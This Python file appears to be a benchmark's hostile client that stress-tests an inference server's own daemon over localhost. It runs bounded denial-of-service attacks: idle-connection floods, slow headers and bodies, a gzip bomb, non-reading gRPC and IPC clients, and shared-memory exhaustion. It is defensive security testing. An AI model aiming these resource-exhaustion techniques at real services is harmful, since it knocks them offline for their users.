"""The hostile client of ``bench_hostile.py``: one attack of issue 23, in its own process.

    python bench/hostile_attacks.py ATTACK --ipc ipc:///.../d.sock --http-port P --grpc-port P \
        --metrics-port P --seconds S

Each attack is made the way the issue reproduced it (and the way ``tests/test_security_*.py`` make it,
importing their helpers where they exist), is bounded in count and time, and runs until SIGTERM or
``--seconds`` plus a margin.  The process prints ``ARMED <what>`` once the attack is in place (the
benchmark then measures its good clients), ``SKIP <reason>`` and exits 3 where the attack cannot be made
here, and ``DONE <what happened>`` after cleaning up.

Started as root, it imports everything it needs, then drops to ``--uid`` before it connects: a hostile
local user is another uid, and the daemon's budgets are per uid (each attack gets a uid of its own, so
that what one left pending, such as hand-off tokens before their 30 s expiry, is not charged to the
next).  Not root: it stays this uid and says so.  All traffic stays on 127.0.0.1 and local sockets.
"""

from __future__ import annotations

import argparse
import concurrent.futures.thread  # noqa: F401 - imported before the privilege drop (see drop_privileges)
import encodings.idna  # noqa: F401
import gzip
import http.client
import os
import resource
import signal
import socket
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import grpc
import numpy as np
import tritonclient.http as httpclient
import zmq
from tritonclient.grpc import service_pb2, service_pb2_grpc
from tritonclient.utils import InferenceServerException

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from edge_server.client import SharedMemoryRegion  # noqa: E402
from edge_server.client._common import register_fields  # noqa: E402
from edge_server.errors import EdgeServerError  # noqa: E402
from edge_server.ipc import protocol  # noqa: E402
from edge_server.ipc.addresses import ipc_path  # noqa: E402
from edge_server.ipc.handoff import handoff_path  # noqa: E402
from tests.daemon import RawPeer, header  # noqa: E402
from tests.test_security_shm_handoff import flood  # noqa: E402

NOBODY = 65534
MIB = 1 << 20


class Skip(Exception):
    """This attack cannot be made here (the reason is reported, the benchmark goes on)."""


@dataclass
class Target:
    ipc: str
    http_port: int
    grpc_port: int
    metrics_port: int

    @property
    def handoff(self) -> Path:
        path = ipc_path(self.ipc)
        if path is None:
            raise Skip(f"{self.ipc} is not an ipc:// address: no descriptor hand-off")
        return handoff_path(path)


Armed = Callable[[str], None]


def _connect(port: int, count: int, stop: threading.Event) -> tuple[list[socket.socket], int]:
    """Up to ``count`` TCP connections to 127.0.0.1:port; refused ones are counted, not retried."""
    socks, refused = [], 0
    for _ in range(count):
        if stop.is_set() or refused > 50:
            break
        try:
            socks.append(socket.create_connection(("127.0.0.1", port), timeout=2.0))
        except OSError:
            refused += 1
    return socks, refused


def _close(socks: list[socket.socket]) -> None:
    for sock in socks:
        sock.close()


def _peer_closed(sock: socket.socket) -> bool:
    """Whether the daemon closed ``sock`` (after an answer, such as a 503, which is read and dropped)."""
    try:
        sock.setblocking(False)
        try:
            for _ in range(64):
                if sock.recv(65536) == b"":
                    return True
            return False
        finally:
            sock.setblocking(True)
    except BlockingIOError:
        return False
    except OSError:
        return True


# -- items 1-7: the KServe frontends and the metrics endpoint ---------------------------------------


def idle_tcp(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 1: ~2,100 idle TCP connections to the HTTP port and the gRPC port (no HTTP/2 preface)."""
    http, r1 = _connect(t.http_port, 1050, stop)
    grpc_socks, r2 = _connect(t.grpc_port, 1050, stop)
    try:
        armed(f"{len(http)} idle to HTTP, {len(grpc_socks)} to gRPC ({r1 + r2} refused)")
        stop.wait()
        closed = sum(_peer_closed(s) for s in http + grpc_socks)
        return f"{closed} of {len(http) + len(grpc_socks)} closed by the daemon"
    finally:
        _close(http + grpc_socks)


def slow_headers(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 2: 450 HTTP connections sending their headers a byte at a time, 60 idle ones to metrics."""
    http, _ = _connect(t.http_port, 450, stop)
    metrics, _ = _connect(t.metrics_port, 60, stop) if t.metrics_port else ([], 0)
    live = list(http)
    for sock in live:
        try:
            sock.sendall(b"POST /v2/models/identity/infer HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        except OSError:
            pass
    try:
        armed(f"{len(http)} slow-header HTTP connections, {len(metrics)} idle to metrics")
        while not stop.wait(0.5):
            for sock in list(live):
                try:
                    sock.send(b"a")
                except OSError:
                    live.remove(sock)
        closed = sum(_peer_closed(s) for s in http + metrics)
        return f"{closed} of {len(http) + len(metrics)} closed by the daemon"
    finally:
        _close(http + metrics)


def _channels(t: Target, n: int) -> list[grpc.Channel]:
    # A local subchannel pool each: n separate HTTP/2 connections, not one shared.
    options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", 64 * MIB)]
    return [grpc.insecure_channel(f"127.0.0.1:{t.grpc_port}", options=options) for _ in range(n)]


def _until(stop: threading.Event) -> Iterator[service_pb2.ModelInferRequest]:
    stop.wait()
    yield from ()


def idle_streams(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 3: 140 ModelStreamInfer streams opened and never used."""
    channels = _channels(t, 4)
    calls = []
    try:
        for i in range(140):
            stub = service_pb2_grpc.GRPCInferenceServiceStub(channels[i % len(channels)])
            calls.append(stub.ModelStreamInfer(_until(stop)))
        armed(f"{len(calls)} idle streams on {len(channels)} connections")
        stop.wait()
        return f"{sum(not c.is_active() for c in calls)} of {len(calls)} streams ended by the daemon"
    finally:
        for call in calls:
            call.cancel()
        for channel in channels:
            channel.close()


def slow_bodies(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 4: 48 HTTP connections each sending all but the last byte of an 8 MiB body."""
    size = 8 * MIB
    head = (f"POST /v2/models/identity/infer HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            f"Content-Type: application/json\r\nContent-Length: {size}\r\n\r\n").encode()  # fmt: skip
    body = b" " * (size - 1)
    socks, _ = _connect(t.http_port, 48, stop)
    sent = 0
    try:
        for sock in socks:
            if stop.is_set():
                break
            try:
                sock.settimeout(5.0)
                sock.sendall(head + body)
                sent += 1
            except OSError:
                pass
        armed(f"{sent} of {len(socks)} connections hold 8 MiB - 1 byte of body")
        stop.wait()
        closed = sum(_peer_closed(s) for s in socks)
        return f"{closed} of {len(socks)} closed by the daemon"
    finally:
        _close(socks)


def gzip_bomb(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 5: an ~8 KiB gzip body that inflates to 8 MiB of JSON ``[],[],...``, sent again and again."""
    items = (8 * MIB) // 3
    data = "[" + "[]," * items + "[]]"
    doc = '{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[16],"data":' + data + "}]}"
    bomb = gzip.compress(doc.encode(), 9)
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
    statuses: dict[int, int] = {}
    first: dict[int, str] = {}
    armed(f"{len(bomb) / 1024:.0f} KiB gzip bomb inflating to {len(doc) / MIB:.0f} MiB")
    sent = 0
    while not stop.is_set() and sent < 10_000:
        conn = http.client.HTTPConnection("127.0.0.1", t.http_port, timeout=30)
        try:
            conn.request("POST", "/v2/models/identity/infer", body=bomb, headers=headers)
            response = conn.getresponse()
            statuses[response.status] = statuses.get(response.status, 0) + 1
            first.setdefault(response.status, response.read(300).decode(errors="replace"))
        except OSError:
            statuses[-1] = statuses.get(-1, 0) + 1
            if stop.wait(0.1):
                break
        finally:
            conn.close()
        sent += 1
    return f"{sent} bombs sent, HTTP statuses {statuses} (-1: connection error), first bodies {first}"


def grpc_nonreading(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 6: a stream that sends 400 x 1 MiB requests and never reads the answers."""
    raw = np.ones(MIB // 4, np.float32).tobytes()
    sent = [0]

    def requests() -> Iterator[service_pb2.ModelInferRequest]:
        for i in range(400):
            if stop.is_set():
                return
            request = service_pb2.ModelInferRequest(model_name="identity", id=str(i))
            tensor = request.inputs.add()
            tensor.name, tensor.datatype = "INPUT0", "FP32"
            tensor.shape.append(MIB // 4)
            request.raw_input_contents.append(raw)
            sent[0] += 1
            yield request
        stop.wait()

    (channel,) = _channels(t, 1)
    call = service_pb2_grpc.GRPCInferenceServiceStub(channel).ModelStreamInfer(requests())
    try:
        armed("one stream sending 400 x 1 MiB, never reading")
        stop.wait()
        return f"{sent[0]} requests of 1 MiB sent"
    finally:
        call.cancel()
        channel.close()


def sparse_system_shm(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 7: a sparse 1.5 GiB /dev/shm segment registered, then named as the source of a frame of that size.

    The request itself is small and well-formed (the ``frame`` model takes any UINT8 h x w x c and
    reads only its first and last bytes): what it costs the daemon is what reading the input costs.
    """
    size = 1536 * MIB
    key = f"/edge-hostile-{os.getpid()}"
    try:
        fd = os.open(f"/dev/shm{key}", os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o600)
    except OSError as exc:
        raise Skip(f"cannot create a /dev/shm segment: {exc.strerror}") from None
    client = httpclient.InferenceServerClient(f"127.0.0.1:{t.http_port}", network_timeout=60)
    codes: dict[str, int] = {}
    first: dict[str, str] = {}
    try:
        os.ftruncate(fd, size)  # sparse: costs the attacker nothing
        try:
            client.register_system_shared_memory("hostile", key, size)
        except InferenceServerException as exc:
            raise Skip(f"the daemon refused the registration: {str(exc)[:200]}") from None
        armed("1.5 GiB sparse segment registered")
        tensor = httpclient.InferInput("frame", [1024, size // 3072, 3], "UINT8")
        tensor.set_shared_memory("hostile", size)
        while not stop.wait(0.5):
            try:
                client.infer("frame", [tensor])
                codes["ok"] = codes.get("ok", 0) + 1
            except InferenceServerException as exc:
                status = str(exc.status())
                codes[status] = codes.get(status, 0) + 1
                first.setdefault(status, str(exc.message())[:120])
        return f"answers {codes}, first messages {first}"
    finally:
        os.close(fd)
        os.unlink(f"/dev/shm{key}")
        try:
            client.unregister_system_shared_memory("hostile")
        except Exception:  # the daemon may be gone: nothing more to undo
            pass
        client.close()


def frame_flood(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 16: IPC messages of 1,000,000 empty frames, each from a new connection (a cut-off client
    that comes back)."""
    frames = [header(op="live")] + [b""] * 1_000_000
    ctx = zmq.Context()
    sent = answered = 0
    try:
        armed("sending messages of 1,000,000 empty frames, a new connection for each")
        while not stop.is_set() and sent < 100:
            sock = ctx.socket(zmq.DEALER)
            sock.setsockopt(zmq.LINGER, 0)
            sock.setsockopt(zmq.SNDTIMEO, 5000)
            try:
                sock.connect(t.ipc)
                sock.send_multipart(frames)
                sent += 1
                if sock.poll(5000):
                    sock.recv_multipart()
                    answered += 1
            except zmq.Again:
                pass
            finally:
                sock.close(0)
        return f"{sent} messages sent, {answered} answered"
    finally:
        ctx.term()


# -- items 17-21: the IPC path ------------------------------------------------------------------------


def token_hoarding(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 17: one descriptor handed over again and again, never registered (the pending pool)."""
    path = str(t.handoff)
    first = flood(path, 300)
    taken, refused = first["taken"], first["refused"]
    armed(f"{taken} tokens taken, {refused} refused")
    while not stop.wait(1.0):  # keep the pool full as tokens expire
        more = flood(path, 64)
        taken, refused = taken + more["taken"], refused + more["refused"]
    return f"{taken} tokens taken, {refused} refused"


def silent_handoff(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 18: hand-off connections that never send their descriptor, reopened as they are closed."""
    path = str(t.handoff)
    socks: list[socket.socket] = []
    opened = 0

    def top_up() -> None:
        nonlocal opened
        for sock in [s for s in socks if _peer_closed(s)]:
            socks.remove(sock)
            sock.close()
        while len(socks) < 20:
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
            try:
                sock.connect(path)
            except OSError:
                sock.close()
                return
            socks.append(sock)
            opened += 1

    try:
        top_up()
        armed(f"{len(socks)} silent hand-off connections")
        while not stop.wait(0.2):
            top_up()
        return f"{opened} silent connections opened in all"
    finally:
        _close(socks)


def many_regions(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 19: as many sealed (mapped) regions as the daemon takes, plus 150 idle IPC connections."""
    path = ipc_path(t.ipc)
    assert path is not None
    peer = RawPeer(t.ipc)
    regions: list[SharedMemoryRegion] = []
    idle: list[socket.socket] = []
    refused = ""
    try:
        for _ in range(400):
            if stop.is_set():
                break
            region = SharedMemoryRegion(4096)
            regions.append(region)
            try:
                reply = peer.ask([header(op="shm_register", **register_fields(t.ipc, region))])
            except EdgeServerError as exc:
                refused = exc.code
                break
            if not reply["ok"]:
                refused = reply["error"]["code"]
                break
        for _ in range(150):
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                sock.connect(str(path))
            except OSError:
                sock.close()
                break
            idle.append(sock)
        registered = len(regions) - (1 if refused else 0)
        armed(
            f"{registered} regions registered (then {refused or 'no refusal'}), {len(idle)} idle connections"
        )
        stop.wait()
        return f"{registered} regions, {len(idle)} idle connections"
    finally:
        _close(idle)
        peer.close()
        for region in regions:
            region.close()


def unsealed_region(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 20: a 512 MiB sparse unsealed region named as the source of a 64-byte input, repeatedly."""
    big = 512 * MIB
    region = SharedMemoryRegion(big, posix=True)  # /dev/shm: unsealed, so copied, never mapped
    peer = RawPeer(t.ipc)
    codes: dict[str, int] = {}
    try:
        reply = peer.ask([header(op="shm_register", **register_fields(t.ipc, region))])
        if not reply["ok"]:
            raise Skip(f"the daemon refused the region: {reply['error']}")
        desc = {"name": "INPUT0", "datatype": "FP32", "shape": [16],
                "shm": {"region": region.name, "offset": 0, "byte_size": big}}  # fmt: skip
        armed("512 MiB unsealed region registered")
        while not stop.wait(0.2):
            reply = peer.ask([header(op="infer", model="identity", inputs=[desc])])
            code = "ok" if reply["ok"] else reply["error"]["code"]
            codes[code] = codes.get(code, 0) + 1
        return f"answers {codes}"
    finally:
        peer.close()
        region.close()


def nonreading_ipc(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Item 21: 600 requests for 1 MiB outputs (ONNX identity) from a client that never reads."""
    ctx = zmq.Context()
    sock = ctx.socket(zmq.DEALER)
    sock.setsockopt(zmq.LINGER, 0)
    sock.setsockopt(zmq.RCVHWM, 1)  # its own process takes (almost) nothing off the wire
    sock.setsockopt(zmq.RCVBUF, 4096)
    sock.setsockopt(zmq.SNDTIMEO, 5000)
    payload = np.ones(MIB // 4, np.float32).tobytes()
    sent = 0
    try:
        sock.connect(t.ipc)
        armed("sending 600 x 1 MiB requests, reading nothing")
        for rid in range(600):
            if stop.is_set():
                break
            tensor = {"name": "INPUT0", "datatype": "FP32", "shape": [MIB // 4], "frame": 0}
            head = {"v": protocol.PROTOCOL_VERSION, "id": rid, "op": "infer", "model": "identity"}
            head["inputs"] = [tensor]
            try:
                sock.send_multipart([protocol.pack(head), payload])
            except zmq.Again:
                break
            sent += 1
        stop.wait()
        return f"{sent} requests sent"
    finally:
        sock.close(0)
        ctx.term()


def cpu_hog(t: Target, stop: threading.Event, armed: Armed) -> str:
    """Control, not an item: the attacker only spins one core, as frame-flood's sender does.

    On a 2-core machine a local process that merely burns CPU slows the good clients too; this row
    says how much, so that an attack's ratio can be read against what its own sending costs.
    """
    armed("spinning one core, talking to nobody")
    spins = 0
    while not stop.is_set():
        for _ in range(100_000):
            spins += 1
    return f"{spins:,} spins"


ATTACKS: dict[str, tuple[str, Callable[[Target, threading.Event, Armed], str]]] = {
    "idle-tcp": ("1", idle_tcp),
    "slow-headers": ("2", slow_headers),
    "idle-streams": ("3", idle_streams),
    "slow-bodies": ("4", slow_bodies),
    "gzip-bomb": ("5", gzip_bomb),
    "grpc-nonreading": ("6", grpc_nonreading),
    "sparse-system-shm": ("7", sparse_system_shm),
    "frame-flood": ("16", frame_flood),
    "token-hoarding": ("17", token_hoarding),
    "silent-handoff": ("18", silent_handoff),
    "many-regions": ("19", many_regions),
    "unsealed-region": ("20", unsealed_region),
    "nonreading-ipc": ("21", nonreading_ipc),
    "cpu-hog": ("control", cpu_hog),
}


def drop_privileges(uid: int) -> str:
    """Raise the descriptor limit, then become ``uid`` (and gid) when root; who the attacker is.

    Python's standard library lives under root's home here, unreadable to other users: every module
    the attacks use is imported above, before this.
    """
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if os.geteuid() != 0:
        return f"uid {os.geteuid()} (same user as the good clients: not root)"
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
    return f"uid {uid}"


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--ipc", required=True)
    parser.add_argument("--http-port", type=int, required=True)
    parser.add_argument("--grpc-port", type=int, required=True)
    parser.add_argument("--metrics-port", type=int, default=0)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--uid", type=int, default=NOBODY, help="the user to attack as, when started as root")
    args = parser.parse_args()
    target = Target(args.ipc, args.http_port, args.grpc_port, args.metrics_port)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    # Never outlive the benchmark by much, whatever happens to it.
    timer = threading.Timer(args.seconds + 60.0, stop.set)
    timer.daemon = True
    timer.start()
    who = drop_privileges(args.uid)

    def armed(what: str) -> None:
        print(f"ARMED as {who}: {what}", flush=True)

    try:
        done = ATTACKS[args.attack][1](target, stop, armed)
    except Skip as exc:
        print(f"SKIP {exc}", flush=True)
        os._exit(3)
    except BaseException as exc:  # reported by the benchmark, which goes on with the next attack
        print(f"ERROR {type(exc).__name__}: {str(exc)[:300]}", flush=True)
        os._exit(1)
    print(f"DONE {done}", flush=True)
    os._exit(0)  # the timer thread and any grpc threads: nothing to wait for


if __name__ == "__main__":
    raise SystemExit(main())
